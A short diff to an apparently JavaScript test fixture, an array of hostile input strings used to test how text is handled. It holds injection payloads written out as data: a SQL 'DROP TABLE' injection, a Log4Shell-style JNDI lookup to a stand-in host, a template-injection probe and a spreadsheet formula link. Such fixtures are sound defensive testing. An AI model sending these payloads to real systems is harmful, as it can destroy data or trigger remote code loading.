@@ -46,7 +46,7 @@ const HOSTILE = [
   "nul \u0000 bell \u0007 escape \u001B[31mred\u001B[0m",
   "half a pair: \uD83D and the other half: \uDE00",
   '=HYPERLINK("https://tracker.invalid","open")',
-  "'; DROP TABLE events; -- ${jndi:ldap://tracker.invalid/a} {{7*7}}",
+  `'; DROP TABLE events; -- \${jndi:ldap://tracker.invalid/a} {{7*7}}`,
 ];
 
 /** A text that tries what hostile texts try. */
